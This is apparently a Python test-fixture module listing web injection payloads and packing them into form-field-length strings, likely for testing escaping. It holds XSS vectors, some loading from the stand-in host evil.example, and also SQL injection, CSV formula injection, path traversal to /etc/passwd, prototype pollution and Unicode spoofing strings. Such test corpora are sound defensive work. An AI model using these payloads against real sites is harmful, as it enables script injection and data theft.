"""Texts that would do harm if any page took them for more than text."""

from collections.abc import Iterator

SCRIPTS = [
    "<script>__hit=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>__hit=1</script>",
    "<scr<script>ipt>__hit=1</scr</script>ipt>",
    "<script type=module>import('//evil.example')</script>",
    "<script src=data:text/javascript,__hit=1></script>",
    "</title><script>__hit=1</script>",
    "</textarea><script>__hit=1</script>",
    "--><script>__hit=1</script><!--",
    "]]><script>__hit=1</script>",
]
HANDLERS = [
    "<img src=x onerror=__hit=1>",
    '"><img src=x onerror=__hit=1>',
    "'><img src=x onerror=__hit=1>",
    "<img/src/onerror=__hit=1>",
    "<body onload=__hit=1>",
    "<input autofocus onfocus=__hit=1>",
    '" autofocus onfocus=__hit=1 x="',
    "<details open ontoggle=__hit=1>",
    "<video><source onerror=__hit=1>",
    "<marquee onstart=__hit=1>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationend=__hit=1>",
    "<div popover id=p onbeforetoggle=__hit=1><button popovertarget=p>",
    "<a href=x onclick=alert(1)>A</a>",
    "<x contenteditable onblur=__hit=1>",
]
LOADED = [
    "<svg onload=__hit=1>",
    "<svg><script>__hit=1</script></svg>",
    "<svg><animate onbegin=__hit=1 attributeName=x>",
    "<svg><use href=data:image/svg+xml,x#y>",
    "<svg><foreignObject><iframe srcdoc=x>",
    "<iframe src=javascript:parent.__hit=1>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'>",
    "<object data=//evil.example/x.swf>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<img src=//evil.example/pixel.png>",
    "<form action=//evil.example><button>",
    "<portal src=//evil.example>",
    "<template shadowrootmode=open><script>__hit=1</script>",
]
MUTATIONS = [
    "<math><mtext><table><mglyph><style><img src=x onerror=__hit=1>",
    '<noscript><p title="</noscript><img src=x onerror=__hit=1>">',
    '<svg></p><style><a id="</style><img src=1 onerror=__hit=1>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror>">',
    "<!--><img src=x onerror=__hit=1>-->",
    '<a title="`><img src=x onerror=__hit=1>`">',
    "&lt;img src=x onerror=__hit=1&gt;",
    "&#60;script&#62;__hit=1&#60;/script&#62;",
    "\\u003cscript\\u003e__hit=1\\u003c/script\\u003e",
    "%3Cscript%3E__hit%3D1%3C/script%3E",
    "+ADw-script+AD4-__hit=1+ADw-/script+AD4-",
]
ADDRESSES = [
    "javascript:__hit=1",
    "JaVaScRiPt:__hit=1//",
    "java&Tab;script:__hit=1",
    "data:text/html,<script>__hit=1</script>",
    "vbscript:msgbox(1)",
    "//evil.example/%2f..",
    "[click](javascript:__hit=1)",
    "![x](//evil.example/pixel.png)",
]
TEMPLATES = [
    "{{constructor.constructor('__hit=1')()}}",
    "${__hit=1}",
    "#{__hit=1}",
    "<%= __hit=1 %>",
    "{% print(7*7) %}",
    "';__hit=1;//",
    '";__hit=1;//',
    "`-(__hit=1)-`",
    "__proto__",
    "constructor",
    '{"__proto__":{"polluted":1}}',
    '{"type":"img","props":{"onerror":"__hit=1"},"__v":1}',
    "dangerouslySetInnerHTML={{__html:'<img src=x onerror=__hit=1>'}}",
    "$& $1 $` $' %s %d %(name)s {0} {name}",
    "=cmd|'/c calc'!A1",
    "' OR '1'='1'; DROP TABLE days; --",
    "../../../../etc/passwd",
]
STYLES = [
    "<style>*{background:url(//evil.example)}</style>",
    "}body{display:none}",
    "expression(__hit=1)",
    "red;background:url(//evil.example)",
    "</style><style>@import'//evil.example'",
]
LETTERS = [
    "\u202egnp.exe\u202c",
    "\u2066right\u2067left\u2069\u2069",
    "a\u200bb\u200cc\u200dd\ufeffe",
    "Z\u0335\u0321\u0322a\u0337\u0322l\u0334\u0321g\u0336\u0322o\u0338",
    "\u0627\u0644\u0633\u0644\u0627\u0645 \u05e9\u05dc\u05d5\u05dd",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f3f4\U000e0067\U000e007f",
    "\uff1cscript\uff1e__hit=1\uff1c/script\uff1e",
    "\u02bcimg src=x\u02bc \u2039script\u203a",
    "null",
    "undefined",
    "NaN",
    "true",
    "[object Object]",
    "-1e999",
    "\ufdfa\ufffd\uffff",
    "W" * 110,
]
PAYLOADS = [
    *SCRIPTS, *HANDLERS, *LOADED, *MUTATIONS, *ADDRESSES, *TEMPLATES, *STYLES, *LETTERS,
]  # fmt: skip


def filled(name: str, longest: int) -> list[str]:
    """Texts for a field of this length that together hold every payload that fits into one."""
    return list(_packed(f"{name}~", longest))


def _packed(start: str, longest: int) -> Iterator[str]:
    text = start
    for payload in PAYLOADS:
        if len(start) + 1 + len(payload) > longest:
            continue
        if len(text) + 1 + len(payload) > longest:
            yield text
            text = start
        text = f"{text} {payload}"
    yield text
